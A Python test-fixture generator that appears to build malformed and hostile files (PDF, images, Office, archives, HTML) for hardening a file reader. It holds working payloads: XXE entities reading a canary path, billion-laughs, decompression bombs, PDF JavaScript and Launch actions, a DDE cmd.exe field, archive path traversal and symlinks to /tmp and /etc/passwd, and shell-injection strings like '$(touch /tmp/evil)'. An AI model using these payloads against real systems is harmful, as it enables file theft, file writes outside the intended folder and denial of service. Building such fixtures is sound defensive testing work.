"""Makes files that no reader should have to read: damaged, endless, huge, and files that reach out.

hostile_files(canary, port) gives (name, bytes) pairs, the same each time. Files that try to read
`canary` (a path) or to call home do so at http://127.0.0.1:port/.
"""
import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import zipfile
import zlib

OOXML = "http://schemas.openxmlformats.org/"


# Sound files, small, to be damaged.

def pdf(objects, trailer="", header="%PDF-1.7\n"):
    """A PDF of these object bodies, numbered from 1; object 1 is the catalogue."""
    out, offsets = io.BytesIO(), []
    out.write(header.encode("latin-1"))
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        body = body if isinstance(body, bytes) else body.encode("latin-1")
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R{trailer}>>\nstartxref\n{start}\n%%EOF\n".encode("latin-1"))
    return out.getvalue()


def stream(data, extra=""):
    data = data if isinstance(data, bytes) else data.encode("latin-1")
    return f"<</Length {len(data)}{extra}>>stream\n".encode("latin-1") + data + b"\nendstream"


def one_page(content="BT /F1 12 Tf 72 700 Td (One sound page of text) Tj ET", catalog="", page="",
             box="0 0 595 842", more=(), resources="/Font<</F1 5 0 R>>", trailer=""):
    return pdf([f"<</Type/Catalog/Pages 2 0 R{catalog}>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R/Resources<<{resources}>>{page}>>",
                stream(content), "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", *more], trailer)


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width=16, height=16, data=None, more=b"", colour=0):
    data = zlib.compress(b"\0" + b"\x80" * 16) * 1 if data is None else data
    if width == 16 and height == 16:
        data = zlib.compress((b"\0" + bytes(range(0, 256, 16))) * 16)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)) +
            more + chunk(b"IDAT", data) + chunk(b"IEND", b""))


JPEG = bytes.fromhex(
    "ffd8ffe000104a46494600010100000100010000ffdb004300030202020202030202020303030304060404040404080606050609080a0a090809090a0c0f"
    "0c0a0b0e0b09090d110d0e0f101011100a0c12131210130f101010ffc9000b080001000101011100ffcc000600101005ffda0008010100003f00d2cf20ffd9")


def jpeg(width=1, height=1, segment=b""):
    sized = JPEG.replace(b"\xff\xc9\x00\x0b\x08\x00\x01\x00\x01", b"\xff\xc9\x00\x0b\x08" + struct.pack(">HH", height, width))
    return sized[:2] + segment + sized[2:]


def gif(width=2, height=2, frames=1):
    frame = b"\x2c\0\0\0\0" + struct.pack("<HH", min(width, 2), min(height, 2)) + b"\0\x02\x03\x44\x34\x05\0"
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\0\0\0\0\0\xff\xff\xff" + frame * frames + b"\x3b"


def bmp(width=2, height=2):
    return b"BM" + struct.pack("<IHHIIiiHHIIiiII", 70, 0, 0, 54, 40, width, height, 1, 24, 0, 16, 2835, 2835, 0, 0) + b"\x10" * 16


def tiff(entries, next_ifd=0, data=b"\x80" * 64):
    ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *one) for one in entries) + struct.pack("<I", next_ifd)
    return b"II*\0" + struct.pack("<I", 8) + ifd + data


def plain_tiff(width=8, height=8, next_ifd=0, strip=110):
    return tiff([(256, 3, 1, width), (257, 3, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
                 (273, 4, 1, strip), (278, 3, 1, height), (279, 4, 1, 64)], next_ifd)


def wav(size=None, data=b"\0\x10" * 400):
    return (b"RIFF" + struct.pack("<I", size or 36 + len(data)) + b"WAVEfmt " +
            struct.pack("<IHHIIHH", 16, 1, 1, 8000, 16000, 2, 16) + b"data" + struct.pack("<I", size or len(data)) + data)


def box(kind, data=b"", size=None):
    return struct.pack(">I", 8 + len(data) if size is None else size) + kind + data


def mp4(more=b""):
    return box(b"ftyp", b"isom\0\0\2\0isomiso2mp41") + box(b"moov", box(b"mvhd", b"\0" * 100) + more) + box(b"mdat", b"\0" * 64)


def zipped(members, stored=False):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name), data,
                             zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


def docx(document, more=()):
    return zipped([("[Content_Types].xml", f'<Types xmlns="{OOXML}package/2006/content-types"/>'),
                   ("word/document.xml", document), *more])


def word_xml(body, doctype=""):
    return f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{OOXML}wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>'


def paragraph(text="A sound paragraph."):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def xlsx(sheet, strings="<sst/>", more=()):
    return zipped([("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", '<workbook><sheets><sheet name="One"/></sheets></workbook>'),
                   ("xl/sharedStrings.xml", strings), ("xl/worksheets/sheet1.xml", sheet), *more])


def pptx(slides, more=()):
    return zipped([("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<p/>"),
                   *((f"ppt/slides/slide{i}.xml", slide) for i, slide in enumerate(slides, 1)), *more])


def odt(content, mime="application/vnd.oasis.opendocument.text"):
    return zipped([("mimetype", mime), ("content.xml", content)], stored=len(content) < 100_000)


def epub(chapters):
    return zipped([("mimetype", "application/epub+zip"), ("META-INF/container.xml", "<container/>"),
                   *((f"OEBPS/{i}.xhtml", chapter) for i, chapter in enumerate(chapters))])


def mail(body="A sound message.\r\n", headers=""):
    return (f"From: a@example.org\r\nTo: b@example.org\r\nSubject: sound\r\nDate: Mon, 3 Nov 2025 10:00:00 +0000\r\n"
            f"Message-ID: <1@example.org>\r\nMIME-Version: 1.0\r\n{headers}\r\n{body}").encode("latin-1")


def tarred(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for member, data in members:
            if not isinstance(member, tarfile.TarInfo):
                member = tarfile.TarInfo(member)
                member.size = len(data)
            archive.addfile(member, io.BytesIO(data) if data is not None else None)
    return out.getvalue()


def link(name, target, kind=tarfile.SYMTYPE):
    member = tarfile.TarInfo(name)
    member.type, member.linkname = kind, target
    return member


def symlink_entry(name):
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return info


def sound_files():
    """One of each format, to be mutated."""
    sheet = '<worksheet><sheetData><row><c t="s"><v>0</v></c><c><v>42</v></c></row></sheetData></worksheet>'
    return {
        "plain.pdf": one_page(), "plain.png": png(), "plain.jpg": jpeg(), "plain.gif": gif(), "plain.bmp": bmp(),
        "plain.tif": plain_tiff(), "plain.wav": wav(), "plain.mp4": mp4(),
        "plain.docx": docx(word_xml(paragraph() * 5)),
        "plain.xlsx": xlsx(sheet, "<sst><si><t>forty</t></si></sst>"),
        "plain.pptx": pptx(["<p:sld xmlns:p='p' xmlns:a='a'><a:p><a:t>Slide</a:t></a:p></p:sld>"]),
        "plain.odt": odt("<office:document-content xmlns:office='o' xmlns:text='t'><text:p>Sound</text:p></office:document-content>"),
        "plain.epub": epub(["<html><body><p>Chapter</p></body></html>"]),
        "plain.zip": zipped([("a.txt", "a" * 500), ("b/c.txt", "c" * 500)]),
        "plain.tar": tarred([("a.txt", b"a" * 700), ("b/c.txt", b"c" * 700)]),
        "plain.tar.gz": gzip.compress(tarred([("a.txt", b"a" * 700)]), mtime=0),
        "plain.eml": mail(headers='Content-Type: multipart/mixed; boundary="x"\r\n',
                          body='--x\r\n\r\nText\r\n--x\r\nContent-Disposition: attachment; filename="a.bin"\r\n\r\nQUJD\r\n--x--\r\n'),
        "plain.rtf": rb"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0 Arial;}}\f0 Sound \'e9 text\par}",
        "plain.html": b"<!doctype html><html><head><title>Sound</title></head><body><p>Text<br>more</body></html>",
        "plain.svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>Sound</text></svg>',
    }


# What mutating makes.

def cut(data, rng):
    return data[:rng.randrange(1, len(data))]


def flip(data, rng):
    damaged = bytearray(data)
    for _ in range(max(1, len(data) // 200)):
        damaged[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    return bytes(damaged)


def noise(data, rng):
    damaged = bytearray(data)
    for _ in range(max(4, len(data) // 20)):
        damaged[rng.randrange(len(data))] = rng.randrange(256)
    return bytes(damaged)


def repeat(data, rng):
    begin = rng.randrange(len(data))
    end = rng.randrange(begin, len(data)) + 1
    return data[:end] + data[begin:end] * 20 + data[end:]


def extreme_numbers(data, rng):
    damaged = bytearray(data)
    for _ in range(3):
        at = rng.randrange(max(1, len(data) - 4))
        damaged[at:at + 4] = rng.choice([b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff", b"\0\0\0\0", b"\x80\0\0\0"])
    return bytes(damaged)


def splice(data, rng):
    other = rng.choice(list(sound_files().values()))
    return data[:rng.randrange(len(data))] + other[rng.randrange(len(other)):]


def huge_decimal(data, rng):
    digits = [i for i in range(len(data)) if data[i:i + 1].isdigit()]
    at = rng.choice(digits) if digits else 0
    return data[:at] + rng.choice([b"99999999999", b"-1", b"4294967296", b"0"]) + data[at + 1:]


def begin_only(data, rng):
    return data[:16] + bytes(rng.randrange(256) for _ in range(400))


MUTATIONS = (cut, flip, noise, repeat, extreme_numbers, splice, huge_decimal, begin_only)


def mutated():
    for name, data in sound_files().items():
        for mutation in MUTATIONS:
            yield f"{mutation.__name__}-{name}", mutation(data, random.Random(f"{name} {mutation.__name__}"))


# What is built to harm.

def evil_pdfs(canary, port):
    home = f"http://127.0.0.1:{port}/pdf"
    action = lambda a: one_page(catalog=f"/OpenAction<<{a}>>")
    yield "javascript.pdf", action(f"/S/JavaScript/JS(app.launchURL\\('{home}'\\))")
    yield "launch.pdf", action("/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>")
    yield "uri.pdf", action(f"/S/URI/URI({home})")
    yield "gotor.pdf", action(f"/S/GoToR/F(file://{canary})/D[0/Fit]")
    yield "submit.pdf", action(f"/S/SubmitForm/F<</FS/URL/F({home})>>")
    yield "import-data.pdf", action(f"/S/ImportData/F({canary})")
    yield "external-stream.pdf", one_page(page="/Contents 6 0 R", more=[f"<</Length 0/F({canary})>>stream\n\nendstream"])
    yield "external-image.pdf", one_page(content="/I Do", resources="/XObject<</I 6 0 R>>", more=[
        f"<</Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 8/Length 0/F<</FS/URL/F({home})>>>>stream\n\nendstream"])
    xfa = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{canary}">]><xdp>&e;</xdp>'
    yield "xfa-entity.pdf", one_page(catalog="/AcroForm<</XFA 6 0 R/Fields[]>>", more=[stream(xfa)])
    yield "xmp-entity.pdf", one_page(catalog="/Metadata 6 0 R", more=[stream(xfa, "/Type/Metadata/Subtype/XML")])
    yield "attachment.pdf", one_page(catalog="/Names<</EmbeddedFiles<</Names[(../../../tmp/evil) 6 0 R]>>>>", more=[
        "<</Type/Filespec/F(../../../tmp/evil)/EF<</F 7 0 R>>>>", stream(b"evil", "/Type/EmbeddedFile")])
    yield "attachment-loop.pdf", one_page(catalog="/Names<</EmbeddedFiles 6 0 R>>", more=["<</Kids[6 0 R 6 0 R]>>"])
    yield "kids-loop.pdf", pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"])
    yield "parent-loop.pdf", one_page(page="/Parent 3 0 R")
    yield "count-lie.pdf", pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>",
                                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"])
    yield "count-negative.pdf", pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count -5>>", "<</Type/Page/Parent 2 0 R>>"])
    kids = " ".join(["3 0 R"] * 120_000)
    yield "many-pages.pdf", pdf(["<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Kids[{kids}]/Count 120000>>",
                                 "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>"])
    yield "xref-loop.pdf", one_page(trailer="/Prev 15")
    yield "xref-itself.pdf", one_page().replace(b"/Root 1 0 R", b"/Prev 700/XRefStm 700/Root 1 0 R")
    yield "no-xref.pdf", one_page().partition(b"xref")[0]
    yield "deep-array.pdf", one_page(content="[" * 200_000)
    yield "deep-dictionary.pdf", pdf(["<</A" * 100_000])
    yield "deep-q.pdf", one_page(content="q " * 500_000)
    yield "flate-bomb.pdf", one_page(page="/Contents 6 0 R", more=[stream(zlib.compress(b"\0" * (400 << 20), 9), "/Filter/FlateDecode")])
    twice = zlib.compress(zlib.compress(b" " * (200 << 20), 9), 9)
    yield "flate-twice.pdf", one_page(page="/Contents 6 0 R", more=[stream(twice, "/Filter[/FlateDecode/FlateDecode]")])
    yield "filter-chain.pdf", one_page(page="/Contents 6 0 R", more=[stream(b"x" * 50, "/Filter[" + "/ASCIIHexDecode" * 500 + "]")])
    yield "text-bomb.pdf", one_page(page="/Contents 6 0 R", more=[stream(zlib.compress(
        b"BT /F1 12 Tf " + b"1 0 Td (word) Tj " * 2_000_000 + b"ET", 9), "/Filter/FlateDecode")])
    yield "huge-page.pdf", one_page(box="0 0 1e9 1e9")
    yield "tiny-page.pdf", one_page(box="0 0 1e-9 1e-9")
    yield "inside-out-page.pdf", one_page(box="9e99 9e99 -9e99 nan")
    yield "user-unit.pdf", one_page(page="/UserUnit 1e30/Rotate 45")
    image = lambda w, h, extra="": one_page(content="500 0 0 500 0 0 cm /I Do", resources="/XObject<</I 6 0 R>>", more=[stream(
        zlib.compress(b"\0" * 1000), f"/Type/XObject/Subtype/Image/Width {w}/Height {h}/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode{extra}")])
    yield "huge-image.pdf", image(100_000, 100_000)
    yield "overflow-image.pdf", image(2_147_483_647, 2_147_483_647)
    yield "predictor-image.pdf", image(9, 9, "/DecodeParms<</Predictor 15/Colors 99999/Columns 99999999>>")
    for name, kind in (("jpx", "JPX"), ("jbig2", "JBIG2"), ("dct", "DCT"), ("ccitt", "CCITTFax")):
        yield f"noise-{name}.pdf", one_page(content="/I Do", resources="/XObject<</I 6 0 R>>", more=[stream(
            random.Random(name).randbytes(3000), f"/Type/XObject/Subtype/Image/Width 64/Height 64/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/{kind}Decode")])
    yield "form-loop.pdf", one_page(content="/X Do", resources="/XObject<</X 6 0 R>>", more=[
        stream("/X Do /X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")])
    levels = [stream(f"/X Do " * 12, f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {7 + i} 0 R>>>>") for i in range(9)]
    yield "form-fan.pdf", one_page(content="/X Do", resources="/XObject<</X 6 0 R>>", more=[*levels, stream("0 0 9 9 re f", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]")])
    yield "tiling.pdf", one_page(content="/Pattern cs /P scn 0 0 595 842 re f", resources="/Pattern<</P 6 0 R>>", more=[
        stream("0 0 1 1 re f", "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.0001/YStep 0.0001/Resources<<>>")])
    yield "shading.pdf", one_page(content="/S sh", resources="/Shading<</S<</ShadingType 1/ColorSpace/DeviceGray/Function 6 0 R>>>>", more=[
        stream("{" + "1 add " * 50_000 + "}", "/FunctionType 4/Domain[0 1 0 1]/Range[0 1]")])
    yield "type3-loop.pdf", one_page(resources="/Font<</F1 6 0 R>>", more=[
        "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 7 0 R>>/Encoding<</Differences[0/a]>>/FirstChar 0/LastChar 0/Widths[9]/Resources<</Font<</F1 6 0 R>>>>>>",
        stream("BT /F1 1 Tf (\\000) Tj ET")])
    yield "broken-font.pdf", one_page(resources="/Font<</F1 6 0 R>>", more=[
        "<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 7 0 R>>", "<</Type/FontDescriptor/FontName/X/FontFile2 8 0 R>>",
        stream(b"\0\1\0\0" + random.Random(3).randbytes(5000))])
    yield "cmap-bomb.pdf", one_page(resources="/Font<</F1 6 0 R>>", more=[
        "<</Type/Font/Subtype/Type1/BaseFont/X/ToUnicode 7 0 R>>", stream("1 beginbfrange <00000000> <ffffffff> <0000> endbfrange " * 500)])
    yield "locked.pdf", one_page(trailer="/Encrypt<</Filter/Standard/V 1/R 2/P -4/O(" + "x" * 32 + ")/U(" + "y" * 32 + ")>>/ID[(a)(b)]")
    yield "objstm-loop.pdf", pdf(["<</Type/Catalog/Pages 2 0 R>>", stream("2 0 3 5 <<>> <<>>", "/Type/ObjStm/N 2147483647/First 8/Extends 2 0 R")])
    yield "outline-loop.pdf", one_page(catalog="/Outlines 6 0 R", more=["<</First 6 0 R/Last 6 0 R/Next 6 0 R/Title(loop)>>"])
    yield "names.pdf", one_page(catalog="/" + "A" * 500_000 + " true")
    yield "control-text.pdf", one_page(content="BT /F1 9 Tf (\x00\x01\x1b[2J</word></page>&lt;) Tj ET")


def evil_images(canary, port):
    home = f"http://127.0.0.1:{port}/image"
    yield "huge.png", png(60_000, 60_000)
    yield "largest.png", png(2_147_483_647, 2_147_483_647)
    yield "bomb.png", png(20_000, 20_000, zlib.compress(b"\0" * (20_001 * 20_000), 9))
    yield "text-bomb.png", png(more=chunk(b"zTXt", b"a\0\0" + zlib.compress(b"x" * (200 << 20), 9)))
    yield "profile-bomb.png", png(more=chunk(b"iCCP", b"a\0\0" + zlib.compress(b"\xff" * (100 << 20), 9)))
    yield "many-chunks.png", png(more=chunk(b"tEXt", b"a\0b") * 100_000)
    yield "long-chunk.png", png()[:33] + b"\x7f\xff\xff\xffIDAT" + b"\0" * 100
    yield "no-data.png", png()[:33]
    yield "huge.jpg", jpeg(65_535, 65_535)
    yield "zero.jpg", jpeg(0, 0)
    yield "many-segments.jpg", jpeg(segment=b"\xff\xfe\x00\x04ab" * 100_000)
    xmp = f'<?xpacket?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{canary}">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><a>&e;</a></x:xmpmeta>'.encode()
    xmp = b"http://ns.adobe.com/xap/1.0/\0" + xmp
    yield "xmp-entity.jpg", jpeg(segment=b"\xff\xe1" + struct.pack(">H", len(xmp) + 2) + xmp)
    exif = lambda body: b"\xff\xe1" + struct.pack(">H", len(body) + 8) + b"Exif\0\0" + body
    yield "exif-loop.jpg", jpeg(segment=exif(tiff([(0x8769, 4, 1, 8)], 8)))
    yield "exif-far.jpg", jpeg(segment=exif(tiff([(0x010e, 2, 4_000_000_000, 4_000_000_000)] * 50)))
    yield "exif-shell.jpg", jpeg(segment=exif(tiff([(0x010e, 2, 40, 26)], 0, b"$(touch /tmp/evil);`id`|\\c${system('id')}\0" * 2)))
    yield "djvu-eval.jpg", b"AT&TFORM\0\0\0\x60DJVUINFO\0\0\0\x0a\0\1\0\1\x18\0\x2c\1\x16\1ANTa\0\0\0\x30(metadata \"\\c${system('touch /tmp/evil')};\")" + b" " * 20
    yield "huge.gif", gif(65_535, 65_535)
    yield "many-frames.gif", gif(frames=60_000)
    yield "huge.bmp", bmp(2_000_000_000, 2_000_000_000)
    yield "negative.bmp", bmp(-5, -2_147_483_648)
    yield "loop.tif", plain_tiff(next_ifd=8)
    yield "huge.tif", plain_tiff(65_535, 65_535)
    yield "far-strip.tif", plain_tiff(strip=4_294_967_280)
    yield "many-strips.tif", tiff([(256, 4, 1, 9), (257, 4, 1, 9), (273, 4, 2_000_000_000, 8), (279, 4, 2_000_000_000, 8)])
    yield "many-pages.tif", b"II*\0\x08\0\0\0" + b"".join(struct.pack("<HHHIII", 1, 256, 3, 1, 9, 8 + 18 * (i + 1)) for i in range(20_000))
    yield "noise.webp", b"RIFF\xff\xff\xff\x7fWEBPVP8L" + random.Random(5).randbytes(2000)
    yield "noise.heic", box(b"ftyp", b"heic\0\0\0\0mif1heic") + box(b"meta", random.Random(6).randbytes(900), 2_000_000_000)
    yield "entity.svg", f'<!DOCTYPE svg [<!ENTITY e SYSTEM "file://{canary}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>'.encode()
    yield "laughs.svg", (laughs() + '<svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>').encode()
    yield "home.svg", f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{home}"/><script>fetch("{home}")</script></svg>'.encode()


def laughs():
    lines = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{lines}]>'


def evil_archives():
    yield "bomb.zip", zipped([("zeros", b"\0" * (300 << 20))])
    inner = zipped([("zeros", b"\0" * (20 << 20))])
    for _ in range(4):
        inner = zipped([(f"{i}.zip", inner) for i in range(16)])
    yield "nested.zip", inner
    deep = b"core"
    for _ in range(200):
        deep = zipped([("in.zip", deep)])
    yield "deep.zip", deep
    yield "traversal.zip", zipped([("../../../../tmp/evil", "evil"), ("/tmp/evil", "evil"), ("..\\..\\evil", "evil"), ("C:\\evil", "evil")])
    yield "symlink.zip", zipped([(symlink_entry("out"), "/tmp"), ("out/evil", "evil")])
    yield "same-names.zip", zipped([("a", "1")]) + zipped([("a", "2")])
    yield "many.zip", zipped([(f"{i}", "") for i in range(30_000)], stored=True)
    yield "odd-names.zip", zipped([("a\nb", "1"), ("\u202egnp.exe", "2"), ("a" * 30_000, "3"), ("$(id)", "4"), ("-rf", "5"), ("con\x1b[2J", "6")])
    yield "overlap.zip", overlapping(500)
    yield "zip64-lie.zip", zipped([("a", "a")]).replace(b"PK\x05\x06\0\0\0\0\1\0\1\0", b"PK\x05\x06\0\0\0\0\xff\xff\xff\xff")
    yield "size-lie.zip", zipped([("a", "a" * 4000)]).replace(struct.pack("<I", 4000), b"\xff\xff\xff\x7f")
    yield "encrypted.zip", zipped([("secret", "x" * 50)], stored=True).replace(b"PK\x03\x04\x14\0\0\0", b"PK\x03\x04\x14\0\1\0").replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\1\0")
    yield "empty.zip", b"PK\5\6" + b"\0" * 18
    yield "end-only.zip", b"PK\5\6" + b"\xff" * 18
    yield "traversal.tar", tarred([("../../tmp/evil", b"evil"), ("/tmp/evil", b"evil")])
    yield "links.tar", tarred([(link("out", "/tmp"), None), ("out/evil", b"evil"), (link("hard", "/etc/passwd", tarfile.LNKTYPE), None)])
    yield "devices.tar", tarred([(link("null", "", tarfile.CHRTYPE), None), (link("pipe", "", tarfile.FIFOTYPE), None)])
    yield "many.tar", tarred([(f"{i}", b"") for i in range(15_000)])
    yield "size-lie.tar", tarred([("a", b"a")]).replace(b"00000000001\0", b"77777777777\0")
    yield "bomb.gz", gzip.compress(b"\0" * (300 << 20), mtime=0)
    yield "bomb.tar.gz", gzip.compress(tarred([("zeros", b"\0" * (200 << 20))]), mtime=0)
    yield "bomb.bz2", bz2.compress(b"\0" * (200 << 20))
    yield "bomb.xz", lzma.compress(b"\0" * (200 << 20))
    yield "thrice.gz", gzip.compress(gzip.compress(gzip.compress(b"\0" * (100 << 20), mtime=0), mtime=0), mtime=0)
    yield "many-members.gz", gzip.compress(b"", mtime=0) * 50_000
    yield "noise.7z", b"7z\xbc\xaf\x27\x1c\0\4" + random.Random(7).randbytes(2000)
    yield "noise.rar", b"Rar!\x1a\7\1\0" + random.Random(8).randbytes(2000)


def overlapping(count):
    """Many entries that share one compressed kernel."""
    kernel = zlib.compress(b"\0" * (1 << 20), 9)[2:-4]
    crc = zlib.crc32(b"\0" * (1 << 20))
    local = b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0, crc, len(kernel), 1 << 20, 1, 0) + b"a" + kernel
    central = b"".join(b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 0, crc, len(kernel), 1 << 20, 8, 0, 0, 0, 0, 0, 0) +
                       b"%08d" % i for i in range(count))
    return local + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, len(central), len(local), 0)


def evil_office(canary, port):
    home = f"http://127.0.0.1:{port}/office"
    entity = lambda target: f'<!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>'
    yield "entity-file.docx", docx(word_xml(paragraph("&e;"), entity(f"file://{canary}")))
    yield "entity-home.docx", docx(word_xml(paragraph("&e;"), entity(home)))
    yield "parameter-entity.docx", docx(word_xml(paragraph(), f'<!DOCTYPE x [<!ENTITY % e SYSTEM "{home}"> %e;]>'))
    yield "laughs.docx", docx(laughs() + word_xml(paragraph("&l9;")).replace('<?xml version="1.0"?>', ""))
    yield "template.docx", docx(word_xml(paragraph()), [("word/_rels/settings.xml.rels",
          f'<Relationships><Relationship Id="r1" Type="{OOXML}officeDocument/2006/relationships/attachedTemplate" Target="{home}" TargetMode="External"/></Relationships>')])
    yield "macro.docx", docx(word_xml(paragraph()), [("word/vbaProject.bin", random.Random(9).randbytes(5000)), ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" * 50)])
    yield "dde.docx", docx(word_xml('<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'))
    yield "deep.docx", docx(word_xml("<w:p>" * 1_000_000))
    yield "deep-whole.docx", docx(word_xml("<w:p>" * 300_000 + "</w:p>" * 300_000))
    yield "bomb.docx", docx(b"<a>" + b" " * (300 << 20))
    yield "text-bomb.docx", docx(word_xml(paragraph("ha" * 1000) * 40_000))
    yield "attribute-bomb.docx", docx(word_xml("<w:p " + " ".join(f'a{i}="1"' for i in range(200_000)) + "/>"))
    yield "no-document.docx", zipped([("[Content_Types].xml", "<Types/>"), ("word/other.xml", "<a/>")])
    yield "not-xml.docx", docx(b"\xff\xfe" + "nothing".encode("utf-16-le"))
    yield "utf7.docx", docx(b'<?xml version="1.0" encoding="utf-7"?><a>+ADw-</a>')
    yield "many-parts.docx", docx(word_xml(paragraph()), [(f"word/header{i}.xml", word_xml(paragraph())) for i in range(3_000)])
    row = '<row><c t="s"><v>0</v></c></row>'
    yield "strings-bomb.xlsx", xlsx(f"<worksheet>{row * 100_000}</worksheet>", f"<sst><si><t>{'x' * 100_000}</t></si></sst>")
    yield "strings-far.xlsx", xlsx('<worksheet><row><c t="s"><v>999999999</v></c><c t="s"><v>-1</v></c></row></worksheet>')
    yield "entity.xlsx", xlsx("<worksheet/>", f'{entity(f"file://{canary}")}<sst><si><t>&e;</t></si></sst>')
    yield "many-rows.xlsx", xlsx(f"<worksheet>{'<row><c><v>1</v></c></row>' * 1_000_000}</worksheet>")
    yield "many-sheets.xlsx", xlsx("<worksheet/>", more=[(f"xl/worksheets/sheet{i}.xml", f"<worksheet>{row}</worksheet>") for i in range(2, 3_000)])
    yield "many-slides.pptx", pptx(["<p><t>x</t></p>"] * 5_000)
    yield "notes-traversal.pptx", pptx(["<p><t>x</t></p>"], [("ppt/slides/_rels/slide1.xml.rels", f'<r Target="../notesSlides/notesSlide1.xml"/><r Target="file://{canary}"/>')])
    yield "repeated.ods", odt('<office:d xmlns:office="o" xmlns:table="b" xmlns:text="t"><table:table><table:table-row table:number-rows-repeated="999999999">'
                              '<table:table-cell table:number-columns-repeated="999999999"><text:p>x</text:p></table:table-cell></table:table-row></table:table></office:d>',
                              "application/vnd.oasis.opendocument.spreadsheet")
    yield "entity.odt", odt(f'{entity(f"file://{canary}")}<a xmlns:text="t"><text:p>&e;</text:p></a>')
    yield "traversal.epub", epub([f'<html><body><img src="{home}"/><a href="file://{canary}">x</a></body></html>'])
    yield "noise.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "WordDocument".encode("utf-16-le") + random.Random(10).randbytes(20_000)
    yield "noise.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(11).randbytes(504) + "Workbook".encode("utf-16-le") + random.Random(12).randbytes(20_000)
    yield "noise.ppt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(13).randbytes(504) + "PowerPoint Document".encode("utf-16-le") + b"\xff" * 20_000
    yield "loop.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 20 + b"\x09\0" * 200 + "WordDocument".encode("utf-16-le") + b"\1\0\0\0" * 5_000


def evil_texts(canary, port):
    home = f"http://127.0.0.1:{port}/text"
    yield "home.html", f'<!doctype html><html><meta http-equiv="refresh" content="0;{home}"><script src="{home}"></script><iframe src="file://{canary}"></iframe><img src="{home}">Text</html>'.encode()
    yield "deep.html", b"<html>" + b"<div>" * 500_000
    yield "unclosed.html", b"<html><!--" + b"-" * 500_000
    yield "attributes.html", b"<html " + b"a" * 2_000_000
